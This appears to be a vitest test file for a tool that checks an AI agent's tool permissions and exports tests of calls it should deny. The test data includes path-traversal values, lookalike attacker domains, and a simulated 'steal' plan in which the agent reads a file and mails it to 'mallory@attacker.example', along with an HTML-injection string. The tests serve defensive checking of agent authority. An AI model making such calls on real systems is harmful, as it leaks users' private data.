import { describe, expect, it } from 'vitest';
import {
  type AgentAnswer,
  type AttackPlans,
  checkAgent,
  findLastLink,
  findSubject,
  listTestedCalls,
  readAgentSystem,
  readArguments,
  readLinkPolicy,
  runStudyToRecord,
  TAKEAWAY_FORMATS,
  writeTakeaway,
} from '../../../src/engine/index.js';

const text = { type: 'string' };
const TOOLS = [
  { name: 'read_file', inputSchema: { properties: { path: text }, required: ['path'] } },
  { name: 'send_email', inputSchema: { properties: { to: text, body: text }, required: ['to', 'body'] } },
  { name: 'purge', inputSchema: { properties: {} } },
];
const CALLS = [
  { tool: 'read_file', args: { path: '/files/a.txt' } },
  { tool: 'send_email', args: { to: 'alice@company.example', body: 'x' } },
];

async function answer(sentence = 'Mail the file.', plans: AttackPlans = {}): Promise<AgentAnswer> {
  const system = await readAgentSystem([{ name: 'tools', text: JSON.stringify(TOOLS) }]);
  return runStudyToRecord(checkAgent(system, { task: { sentence, calls: CALLS, variants: [] }, plans }));
}

describe('files that the user can export', () => {
  it('AGENT-51 exported files assert each denial, and fail when a rule is widened', async () => {
    const found = await answer();
    const subject = findSubject(found, 'shapes');
    const { capabilities } = findLastLink(subject);
    const { denied } = listTestedCalls(subject);
    for (const [tool, rules] of Object.entries(capabilities))
      for (const [name, rule] of Object.entries(rules).filter(([, { kind }]) => kind !== 'Wildcard')) {
        const wider = { ...capabilities, [tool]: { ...rules, [name]: { kind: 'Wildcard' } } };
        const policy = readLinkPolicy({ holder: 'worker', ttlSeconds: 600, capabilities: wider });
        const passes = denied.filter(
          (one) => policy.decide(one.tool, readArguments(one.args), 0) === 'allow',
        );
        expect(passes.length, `${tool} ${name} ${rule.kind}`).toBeGreaterThan(0);
      }
    for (const call of denied.filter(({ args }) => Object.keys(args).length > 0))
      expect(writeTakeaway('pytest', found, 'shapes')).toContain(String(Object.values(call.args)[0]));
  });

  it('AGENT-53 the exported tests call tools outside the warrant and pass an undeclared argument', async () => {
    const subject = findSubject(await answer(), 'exact');
    const { denied } = listTestedCalls(subject);
    expect(denied.map(({ tool }) => tool)).toContain('purge');
    expect(denied.filter(({ args }) => 'undeclared' in args).map(({ tool }) => tool)).toEqual([
      'read_file',
      'send_email',
    ]);
  });

  it('AGENT-95 the exported tests make calls that are just outside each rule', async () => {
    const number = { type: 'integer' };
    const tools = [
      { name: 'read_file', inputSchema: { properties: { path: text }, required: ['path'] } },
      { name: 'fetch', inputSchema: { properties: { url: text }, required: ['url'] } },
      { name: 'pay', inputSchema: { properties: { to: text, amount: number }, required: ['to', 'amount'] } },
    ];
    const calls = [
      { tool: 'read_file', args: { path: '/data/a.txt' } },
      { tool: 'read_file', args: { path: '/data/b.txt' } },
      { tool: 'fetch', args: { url: 'https://docs.company.example/guide' } },
      { tool: 'pay', args: { to: 'ana@company.example', amount: 50 } },
    ];
    const system = await readAgentSystem([{ name: 'tools', text: JSON.stringify(tools) }]);
    const found = await runStudyToRecord(checkAgent(system, { task: { sentence: '', calls, variants: [] } }));
    const { denied } = listTestedCalls(findSubject(found, 'shapes'));
    const values = (tool: string, name: string) =>
      denied.flatMap((one) => (one.tool === tool ? [one.args[name]] : []));
    expect(values('read_file', 'path')).toEqual(
      expect.arrayContaining(['/data-other/file.txt', '/data/../other/file.txt']),
    );
    expect(values('fetch', 'url')).toEqual(
      expect.arrayContaining([
        'https://docs.company.example.attacker.example/guide',
        'http://docs.company.example/guide',
      ]),
    );
    expect(values('pay', 'amount')).toEqual(expect.arrayContaining([51, -1]));
    expect(values('pay', 'to')).toEqual(
      expect.arrayContaining(['ana@company.example.attacker.example', 'ana@other-company.example']),
    );
  });

  it('AGENT-95 the exported tests make calls that are just outside an edited pattern', async () => {
    const tools = [{ name: 'send', inputSchema: { properties: { to: text }, required: ['to'] } }];
    const call = { tool: 'send', args: { to: 'ana@company.example' } };
    const capabilities = { send: { to: { kind: 'Pattern', pattern: '*@company.example' } } };
    const edit = { v: 1, chain: [{ holder: 'worker', ttlSeconds: 600, capabilities }] } as const;
    const system = await readAgentSystem([{ name: 'tools', text: JSON.stringify(tools) }]);
    const task = { sentence: '', calls: [call], variants: [] };
    const found = await runStudyToRecord(checkAgent(system, { task, edit }));
    const { denied } = listTestedCalls(findSubject(found, 'edit'));
    expect(denied.map(({ args }) => args.to)).toEqual(
      expect.arrayContaining(['ana@company.example.attacker.example', 'ana@other-company.example']),
    );
  });

  it('AGENT-51 known gaps do not include the harmless steps of a possible attack, such as reading', async () => {
    const send = { tool: 'send_email', args: { to: 'mallory@attacker.example', body: 'x' } };
    const plan = [{ tool: 'read_file', args: { path: '/files/other.txt' } }, send];
    const found = await answer('Mail the file.', { steal: plan });
    expect(listTestedCalls(findSubject(found, 'tools')).permitted).toEqual([send]);
    expect(listTestedCalls(findSubject(found, 'shapes')).permitted).toEqual([]);
  });

  it.each(TAKEAWAY_FORMATS)('the exported file %s has the same contents each time', async (format) => {
    const written = writeTakeaway(format, await answer(), 'shapes');
    expect(written.length).toBeGreaterThan(50);
    expect(writeTakeaway(format, await answer(), 'shapes')).toBe(written);
  });

  it('AGENT-84 the report uses the same terms as the page', async () => {
    const report = writeTakeaway('report', await answer(), 'tools');
    expect(report).toContain(
      '| Authority | Send private data to a stranger | Change or delete something else | Task |',
    );
    expect(report).toContain('| No limits | Possible | Possible | Done |');
    expect(report).toContain('possible beyond exact values: Send private data to a stranger');
    expect(report).toContain('- Send private data to a stranger: read\\_file {');
    for (const raw of ['reachable', '"kind"', 'opens', 'null']) expect(report).not.toContain(raw);
  });

  it('exported files include a report without markup from untrusted input', async () => {
    const report = writeTakeaway('report', await answer('<img src=x> | [a](b)'), 'shapes');
    expect(report).toContain('\\<img src=x\\> \\| \\[a\\](b)');
  });
});
